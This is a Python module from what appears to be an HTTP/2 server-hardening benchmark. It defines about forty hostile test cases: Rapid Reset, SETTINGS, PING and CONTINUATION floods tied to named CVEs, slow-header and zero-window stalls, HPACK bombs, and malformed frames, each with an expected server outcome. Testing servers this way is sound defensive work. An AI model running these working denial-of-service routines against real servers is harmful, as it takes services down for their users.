"""HTTP/2 as a weapon: frames in numbers, orders and sizes that no library sends."""

import struct
from collections.abc import Callable, Iterable
from contextlib import ExitStack
from typing import Final

from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    PushPromiseFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from pocketlens_bench.hostile.case import ANSWERED, GONE, OPEN, TOO_LARGE, Case, case
from pocketlens_bench.hostile.http2 import PREFACE, Line, data, headers_of, message
from pocketlens_bench.hostile.target import Target

Act = Callable[[Target], str]

CANCEL: Final = 8
LARGE: Final = (TOO_LARGE, ANSWERED, GONE)
EITHER: Final = (GONE, OPEN)  # a server may bear with it, or have had enough
WINDOW, STREAMS = SettingsFrame.INITIAL_WINDOW_SIZE, SettingsFrame.MAX_CONCURRENT_STREAMS


def _sent(*frames: Frame | bytes) -> Act:
    """On a fresh connection; whether it is still open."""

    def act(to: Target) -> str:
        with to.line() as line:
            line.send(*frames)
            return line.state()

    return act


def _unheard(first: bytes) -> Act:
    """Something else in the place of HTTP/2's first bytes; how the connection ended."""

    def act(to: Target) -> str:
        with to.line(silent=True) as line:
            line.send(first)
            return line.outcome()

    return act


def _flood(many: Iterable[bytes]) -> Act:
    """Each written at once, as long as the server takes them."""

    def act(to: Target) -> str:
        with to.line() as line:
            for each in many:
                if not line.send(each):
                    return GONE
            return line.state()

    return act


def _good(to: Target) -> bytes:
    return message(to.question().SerializeToString())


def _rapid_reset(to: Target) -> str:
    with to.line() as line:
        for first in range(1, 10_001, 500):
            pairs = ((line.opening(stream), RstStreamFrame(stream, CANCEL)) for stream in range(first, first + 500, 2))
            if not line.send(*(frame for pair in pairs for frame in pair)):
                return GONE
        return line.state()


def _reset_questions(to: Target) -> str:
    """Whole questions, each taken back at once: what is not wanted must not pile up."""
    with to.line() as line:
        body = _good(to)
        for stream in range(1, 1001, 2):
            if not line.send(*line.asks(stream, body), RstStreamFrame(stream, CANCEL)):
                return GONE
        return line.state()


def _too_many_streams(to: Target) -> str:
    with to.line() as line:
        line.send(*(line.opening(stream) for stream in range(1, 2501, 2)))
        return line.state()


def _slow_headers(to: Target) -> str:
    """A head in pieces of one byte, the rest of which never comes; others are answered meanwhile."""
    with to.line() as line:
        block = line.opening(1).data
        line.send(HeadersFrame(1, block[:1]))
        for byte in block[1:20]:
            line.send(ContinuationFrame(1, bytes([byte])))
            to.good()
    return ANSWERED


def _slow_question(to: Target) -> str:
    """One byte of the message at a time, others asking in between."""
    with to.line() as line:
        line.send(line.opening(1))
        body = _good(to)
        for place, byte in enumerate(body):
            line.send(data(1, bytes([byte]), end=place == len(body) - 1))
            if place % 200 == 0:
                to.good()
        return line.outcome()


def _padded_question(to: Target) -> str:
    """Each byte of the message behind 255 bytes of padding."""
    with to.line() as line:
        line.send(line.opening(1))
        body = _good(to)[:200]
        for byte in body:
            line.send(DataFrame(1, bytes([byte]), pad_length=255, flags=["PADDED"]))
        return line.state()


def _no_window(to: Target) -> str:
    """40 questions whose answers may not be sent; then the window opens."""
    with to.line({WINDOW: 0}) as line:
        streams = range(1, 81, 2)
        for stream in streams:
            line.send(*line.asks(stream, _good(to)))
        to.good()
        line.send(SettingsFrame(0, settings={WINDOW: 65_535}))
        return line.outcome(1)


def _window_of_one(to: Target) -> str:
    """An answer that may be sent one byte at a time, and is given up."""
    with to.line({WINDOW: 1}) as line:
        line.send(*line.asks(1, _good(to)))
        for _ in range(50):
            line.send(WindowUpdateFrame(1, window_increment=1))
        line.send(RstStreamFrame(1, CANCEL))
        return line.state()


def _many_connections(to: Target) -> str:
    """300 connections that say no more than their first bytes."""
    with ExitStack() as stack:
        for _ in range(300):
            stack.enter_context(to.line())
        to.good()
        return ANSWERED


def _silent_connections(to: Target) -> str:
    """300 connections that say nothing."""
    with ExitStack() as stack:
        for _ in range(300):
            stack.enter_context(to.line(silent=True))
        to.good()
        return ANSWERED


def _headers(size: int) -> Act:
    """Metadata of so many bytes, in values of 8,000."""

    def act(to: Target) -> str:
        with to.line() as line:
            block = line.opening(1, [*headers_of(), *((f"x-{n}", "v" * 8000) for n in range(size // 8000))]).data
            pieces = [block[at : at + 16_000] for at in range(0, len(block), 16_000)]
            frames: list[Frame] = [HeadersFrame(1, pieces[0]), *(ContinuationFrame(1, each) for each in pieces[1:])]
            frames[-1].flags.add("END_HEADERS")
            line.send(*frames, data(1, _good(to), end=True))
            return line.outcome()

    return act


def _remembered_headers(to: Target) -> str:
    """One header of 4 KB in HPACK's table, named 4,000 times by one byte each."""
    with to.line() as line:
        plain = line.opening(1).data
        huge = b"\x40\x01x" + b"\x7f" + _hpack_rest(3900) + b"v" * 3900
        line.send(HeadersFrame(1, plain + huge + b"\xbe" * 4000, flags=["END_HEADERS"]), data(1, _good(to), end=True))
        return line.outcome()


def _hpack_rest(number: int) -> bytes:
    """What follows the seven ones of an HPACK integer."""
    number -= 127
    rest = b""
    while number > 127:
        rest, number = rest + bytes([number & 0x7F | 0x80]), number >> 7
    return rest + bytes([number])


def _block(block: bytes) -> Act:
    """A header block that no encoder makes."""
    return _sent(HeadersFrame(1, block, flags=["END_HEADERS", "END_STREAM"]))


def _continued(to: Target) -> str:
    """CONTINUATION without end (CVE-2024-27316)."""
    with to.line() as line:
        line.send(HeadersFrame(1, line.opening(1).data))
        for _ in range(400):
            if not line.send(ContinuationFrame(1, b"\x00\x01x\x7f\x81\x07" + b"v" * 1024)):
                return GONE
        return line.state()


def _empty_data(to: Target) -> str:
    """DATA of no bytes, 20,000 times (CVE-2019-9518)."""
    with to.line() as line:
        line.send(line.opening(1))
        for _ in range(20):
            if not line.send(data(1, b"").serialize() * 1000):
                return GONE
        return line.state()


def _goaway(to: Target) -> str:
    """A client that says it goes, and asks all the same."""
    with to.line() as line:
        line.send(GoAwayFrame(0, last_stream_id=0, error_code=0), *line.asks(1, _good(to)))
        return line.outcome()


def _backwards(to: Target) -> str:
    with to.line() as line:
        line.send(*line.asks(5, _good(to)), *line.asks(3, _good(to)))
        return line.state()


def _after_end(to: Target) -> str:
    with to.line() as line:
        line.send(*line.asks(1, _good(to)), *(data(1, b"x" * 1000) for _ in range(20)))
        return line.state()


def _unknown_kinds(to: Target) -> str:
    """Frames of kinds that do not exist, which must be ignored, before a good question."""
    odd = b"".join(struct.pack(">I", 8)[1:] + bytes([kind, 255]) + bytes(4) + b"whatever" for kind in range(16, 256))
    with to.line() as line:
        line.send(odd, *line.asks(1, _good(to)))
        return line.outcome()


_PING: Final = PingFrame(0, opaque_data=b"12345678").serialize()
_SETTINGS: Final = SettingsFrame(0, settings={STREAMS: 100}).serialize()

CASES: list[Case] = [
    case("http2", "rapid-reset", "5,000 streams opened and reset (CVE-2023-44487)", EITHER, _rapid_reset),
    case("http2", "reset-questions", "500 whole questions, each taken back at once", EITHER, _reset_questions),
    case("http2", "streams", "1,250 streams on one connection", EITHER, _too_many_streams),
    case("http2", "settings-flood", "20,000 SETTINGS (CVE-2019-9515)", EITHER, _flood([_SETTINGS * 1000] * 20)),
    case("http2", "ping-flood", "20,000 PING (CVE-2019-9512)", EITHER, _flood([_PING * 1000] * 20)),
    case("http2", "priority-flood", "20,000 PRIORITY (CVE-2019-9513)", EITHER,
         _flood([PriorityFrame(1, depends_on=3, stream_weight=1).serialize() * 1000] * 20)),
    case("http2", "window-flood", "20,000 WINDOW_UPDATE", EITHER,
         _flood([WindowUpdateFrame(0, window_increment=1).serialize() * 1000] * 20)),
    case("http2", "empty-data", "20,000 DATA of no bytes (CVE-2019-9518)", EITHER, _empty_data),
    case("http2", "continuation-flood", "CONTINUATION without end (CVE-2024-27316)", EITHER, _continued),
    case("http2", "slow-headers", "a head that comes byte by byte and never ends", ANSWERED, _slow_headers),
    case("http2", "one-byte-data", "a question in DATA of one byte each", ANSWERED, _slow_question),
    case("http2", "padding", "200 bytes behind 255 bytes of padding each", EITHER, _padded_question),
    case("http2", "zero-window", "40 questions whose answers may not be sent (CVE-2019-9517)", ANSWERED, _no_window),
    case("http2", "tiny-window", "an answer taken byte by byte, then given up (CVE-2019-9511)", EITHER, _window_of_one),
    case("http2", "idle-connections", "300 connections that ask nothing", ANSWERED, _many_connections),
    case("http2", "silent-connections", "300 connections that say nothing", ANSWERED, _silent_connections),
    case("http2", "bad-preface", "HTTP/1.1 instead of HTTP/2", GONE, _unheard(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")),
    case("http2", "tls-hello", "the first bytes of TLS", GONE,
         _unheard(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(500))),
    case("http2", "half-preface", "half of HTTP/2's first bytes, and silence", GONE, _unheard(PREFACE[:12])),
    case("http2", "random-bytes", "random bytes after the preface", GONE, _sent(b"\xa7\x13\xff" * 300)),
    case("http2", "huge-frame", "a frame larger than the server said it takes", GONE,
         _sent(struct.pack(">I", 5 << 20)[1:] + b"\x00\x00\x00\x00\x00\x01" + bytes(100_000))),
    case("http2", "headers-on-zero", "HEADERS on stream 0", EITHER,
         _sent(b"\x00\x00\x01\x01\x05\x00\x00\x00\x00\x82")),
    case("http2", "even-stream", "a stream with the server's own number", EITHER,
         _sent(b"\x00\x00\x01\x01\x05\x00\x00\x00\x02\x82")),
    case("http2", "backwards", "stream 3 after stream 5", EITHER, _backwards),
    case("http2", "data-unopened", "DATA on a stream that was never opened", EITHER, _sent(data(7, b"x" * 1000))),
    case("http2", "data-after-end", "DATA after the stream's end", EITHER, _after_end),
    case("http2", "window-zero", "WINDOW_UPDATE by 0", EITHER,
         _sent(b"\x00\x00\x04\x08\x00\x00\x00\x00\x00\x00\x00\x00\x00")),
    case("http2", "window-overflow", "a window beyond 2**31 - 1", EITHER,
         _sent(*(WindowUpdateFrame(0, window_increment=2**31 - 1) for _ in range(3)))),
    case("http2", "bad-settings", "SETTINGS of 5 bytes", GONE, _sent(b"\x00\x00\x05\x04\x00\x00\x00\x00\x00abcde")),
    case("http2", "bad-window", "an initial window of 2**32 - 1", GONE,
         _sent(b"\x00\x00\x06\x04\x00\x00\x00\x00\x00\x00\x04\xff\xff\xff\xff")),
    case("http2", "table-of-4-gib", "SETTINGS that allow HPACK a table of 4 GiB", ANSWERED,
         lambda to: _asked({SettingsFrame.HEADER_TABLE_SIZE: 2**32 - 1}, to)),
    case("http2", "push", "PUSH_PROMISE from a client", EITHER,
         _sent(PushPromiseFrame(1, promised_stream_id=2, data=b"\x82", flags=["END_HEADERS"]))),
    case("http2", "reset-unopened", "RST_STREAM of a stream that was never opened", EITHER,
         _sent(RstStreamFrame(9, CANCEL))),
    case("http2", "goaway", "GOAWAY, and a question all the same", (ANSWERED, GONE), _goaway),
    case("http2", "unknown-kinds", "240 frames of kinds that do not exist", ANSWERED, _unknown_kinds),
    case("http2", "metadata", "20,000 bytes of metadata, which gRPC refuses or passes over", LARGE, _headers(24_000)),
    case("http2", "more-metadata", "1 MB of metadata", LARGE, _headers(1_000_000)),
    case("http2", "hpack-bomb", "one header of 4 KB, named 4,000 times, which gRPC refuses or passes over", LARGE,
         _remembered_headers),
    case("http2", "hpack-index", "a header that HPACK's table does not have", GONE, _block(b"\xff\xff\xff\xff\x0f")),
    case("http2", "hpack-huffman", "Huffman's end of string within a string", EITHER,
         _block(b"\x00\x81\xff\x84\xff\xff\xff\xff")),
    case("http2", "hpack-table", "a change of HPACK's table to 2 GiB", GONE, _block(b"\x3f\xe1\xff\xff\xff\x07\x82")),
]  # fmt: skip


def _asked(told: dict[int, int], to: Target) -> str:
    with Line(to.address, told) as line:
        line.send(*line.asks(1, _good(to)))
        return line.outcome()
